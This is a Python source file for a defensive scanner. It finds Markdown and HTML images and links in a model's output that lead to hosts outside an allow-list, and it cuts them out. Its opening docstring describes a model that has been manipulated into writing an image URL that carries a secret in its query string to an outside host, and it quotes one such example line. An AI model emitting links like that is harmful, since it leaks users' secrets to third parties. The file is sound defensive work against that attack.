"""Pictures and links of an answer that lead to hosts nobody listed: found in Markdown and HTML, piece by piece.

A model that was talked into it writes `![](https://elsewhere/?q=SECRET)`, and whoever shows the answer sends the
secret. What is found is what makes it a picture or a link: the `!`, the target, the element; the words stay. Readers
of Markdown differ, so a picture is kept only where it is written so plainly that all of them see the same target; and
one that does not end within `WINDOW` characters is none that is kept, so that nothing is held back for longer.
"""

import re
from collections.abc import Iterable
from dataclasses import dataclass
from html import unescape

from nexus.scanners import Span

WINDOW = 2048

_ELEMENTS = (  # of HTML, which fetch something
    "img|image|picture|source|video|audio|track|iframe|frame|embed|object|applet|input|link|style|script|base|meta"
    "|svg|use|body|table|td|th|portal|form|button|math"
)
_NEVER = frozenset({"style", "script", "base", "meta", "applet", "portal"})
_PICTURE = re.compile(rf"!\[|<(?:{_ELEMENTS})(?![\w\-])", re.IGNORECASE)
_PICTURE_MAY_COME = re.compile(r"(?:!|<[A-Za-z]{0,8})\Z")
_LINK = re.compile(
    r"\][(:]|(?:https?|ftp|wss?|file)://|(?<![\w/:])//(?=\w)|(?<![\w.])www\.|<[a-z][a-z0-9+.\-]{1,31}:", re.IGNORECASE
)
_LINK_MAY_COME = re.compile(
    r"(?:\]|<[a-z0-9+.\-]{0,32}|(?<![\w.])w{1,3}|[a-z]{1,5}:?/{0,2}|(?<![\w/:])/{1,2})\Z", re.IGNORECASE
)
_LONGEST_COMING = 40

_PLAIN_PICTURE = re.compile(
    r"!\[[^\[\]\\`<>\n]*\]\([ ]?([^\s()<>\\`\"'&]+)(?: \"[^\"\\`<>&\n()]*\")?\)"
)  # all that follows of it is read alike everywhere
_PLAIN_ELEMENT = re.compile(
    r"<[A-Za-z]+(?:\s+[\w:.\-]+(?:\s*=\s*(?:\"[^\"<>]*\"|'[^'<>]*'|[\w#%./\-:?=&;,+]+))?)*\s*/?>"
)
_BRACKET = re.compile(r"[\[\]]")
_PARENTHESIS = re.compile(r"[()]")
_VALUE = re.compile(r"=\s*(?:\"([^\"]*)\"|'([^']*)'|([^\s\"'>]+))")
_URL_END = re.compile(r"[\s<>\"`)\]]")
_BRACKETED_END = re.compile(r"[\s<>]")
_SCHEME = re.compile(r"[a-zA-Z][a-zA-Z0-9+.\-]*:")
_HOST = re.compile(r"(?i:https?)://([A-Za-z0-9.\-]{1,253}(?::[0-9]{1,5})?)(?=[/?#]|\Z)")
_UNREAD = re.compile("[\x00-\x20\x7f-\xa0\xad\u200b-\u200f\u2028-\u202f\u2060-\u206f\ufeff]")  # by who reads a URL
_ESCAPED = re.compile(r"\\(?=[!-/:-@\[-`{-~])")


def leads_elsewhere(target: str, hosts: frozenset[str]) -> bool:
    """Whether a target is neither beside what is shown nor, by http or https, on one of these hosts.

    Markdown takes a backslash for an escape, and browsers one for a slash: it must hold for both.
    """
    plain = unescape(unescape(target))
    return any(_leads_elsewhere(_UNREAD.sub("", read), hosts) for read in (plain, _ESCAPED.sub("", plain)))


def _leads_elsewhere(read: str, hosts: frozenset[str]) -> bool:
    if not _is_address(read):
        return ":" in re.split(r"[/?#]", read, maxsplit=1)[0]
    host = _HOST.match(read)
    return host is None or not {host[1].lower(), host[1].lower().partition(":")[0]} & hosts


def _is_address(read: str) -> bool:
    return bool(_SCHEME.match(read) or re.match(r"[\\/]{2}", read))


def _has_address_elsewhere(value: str, hosts: frozenset[str]) -> bool:
    """Whether an address in an attribute's value leads elsewhere: a srcset has several, a style has them in url()."""
    parts = re.split(r"[\s,;()'\"]+", unescape(value))
    return any(_is_address(part) and leads_elsewhere(part, hosts) for part in (value, *parts))


@dataclass(frozen=True, slots=True)
class Targets:
    """A scanner of the pictures, and where `links` is true of the links, that lead to none of these hosts."""

    hosts: frozenset[str]
    pictures: bool = True
    links: bool = False

    def scan(self, text: str, at: int, final: bool) -> tuple[list[Span], int]:
        spans: list[Span] = []
        coming = _Coming(self._patterns(_PICTURE, _LINK), text)
        while (start := coming.first(at)) is not None:
            window = text[start : start + WINDOW]
            judged = self._judge(window, final or len(text) - start >= WINDOW)
            if judged is None:
                return spans, start
            cut, read = judged
            spans += ((start + begin, start + end) for begin, end in cut)
            at = start + read
        if final:
            return spans, len(text)
        end = max(at, len(text) - _LONGEST_COMING)
        begun = _Coming(self._patterns(_PICTURE_MAY_COME, _LINK_MAY_COME), text).first(end)
        return spans, max(at, len(text)) if begun is None else begun

    def _patterns(self, of_pictures: re.Pattern[str], of_links: re.Pattern[str]) -> list[re.Pattern[str]]:
        return [*([of_pictures] if self.pictures else []), *([of_links] if self.links else [])]

    def _judge(self, window: str, is_all: bool) -> tuple[list[Span], int] | None:
        """What to cut, and how much of the text is read by that; None where more of it is needed."""
        if self.pictures and window.startswith("!["):
            return self._judge_picture(window, is_all)
        if self.pictures and _PICTURE.match(window):
            return self._judge_element(window, is_all)
        if window.startswith("]("):
            return self._judge_inline_link(window, is_all)
        return self._judge_address(window, is_all)

    def _judge_picture(self, window: str, is_all: bool) -> tuple[list[Span], int] | None:
        mark: Span = (0, 1)
        close = _BRACKET.search(window, 2)
        if close is None or close.end() == len(window):
            return ([mark], 2) if is_all or (close and close[0] == "[") else None
        if not window.startswith("](", close.start()):
            return [mark], 2
        end = _PARENTHESIS.search(window, close.end() + 1)
        if end is None:
            return ([mark], 2) if is_all else None
        plain = _PLAIN_PICTURE.match(window)
        if plain and not leads_elsewhere(plain[1], self.hosts):
            return [], 2
        target = (close.end(), end.end())
        is_elsewhere = end[0] == ")" and leads_elsewhere(_target(window[slice(*target)]), self.hosts)
        return ([mark, target] if is_elsewhere else [mark]), 2

    def _judge_element(self, window: str, is_all: bool) -> tuple[list[Span], int] | None:
        end = window.find(">") + 1
        if not end:
            return ([(0, 1)], 1) if is_all else None
        tag = window[:end]
        name = re.split(r"[^a-z]", tag[1:].lower(), maxsplit=1)[0]
        values = ["".join(groups) for groups in _VALUE.findall(tag)]
        is_kept = name not in _NEVER and _PLAIN_ELEMENT.fullmatch(tag)
        if is_kept and not any(_has_address_elsewhere(value, self.hosts) for value in values):
            return [], end
        return [(0, end)], end

    def _judge_inline_link(self, window: str, is_all: bool) -> tuple[list[Span], int] | None:
        end = window.find(")") + 1
        if not end:
            return ([(1, 2)], 2) if is_all else None
        return ([(1, end)] if leads_elsewhere(_target(window[1:end]), self.hosts) else []), 2

    def _judge_address(self, window: str, is_all: bool) -> tuple[list[Span], int] | None:
        """An address as it stands, in angle brackets, or as the definition of a reference."""
        lead = re.match(r"\]:\s*<?|<?", window)
        start = lead.end() if lead else 0
        found = (_BRACKETED_END if window[start - 1 : start] == "<" else _URL_END).search(window, start)
        if found is None and not is_all:
            return None
        end = len(window) if found is None else found.start()
        url = window[start:end]
        read = f"http://{url}" if url.lower().startswith("www.") else url
        is_elsewhere = _is_address(unescape(read)) and leads_elsewhere(read, self.hosts)
        return ([(start, end)] if is_elsewhere and end > start else []), max(end, 2)


class _Coming:
    """Where the next match of each pattern is; none is looked for twice."""

    def __init__(self, patterns: Iterable[re.Pattern[str]], text: str) -> None:
        self._text = text
        self._next: dict[re.Pattern[str], int | None] = dict.fromkeys(patterns, -1)

    def first(self, at: int) -> int | None:
        """Where the first match begins at or after this index, which never goes back."""
        for pattern, start in self._next.items():
            if start is not None and start < at:
                found = pattern.search(self._text, at)
                self._next[pattern] = None if found is None else found.start()
        return min((start for start in self._next.values() if start is not None), default=None)


def _target(parenthesis: str) -> str:
    """The target in `(target "title")`."""
    inside = parenthesis[1:-1].strip()
    bracketed = re.match(r"<([^>\n]*)>", inside)
    return bracketed[1] if bracketed else (inside.split(maxsplit=1) or [""])[0]


def hosts_of(names: Iterable[str]) -> frozenset[str]:
    """Names of hosts as they are compared."""
    return frozenset(name.lower() for name in names)
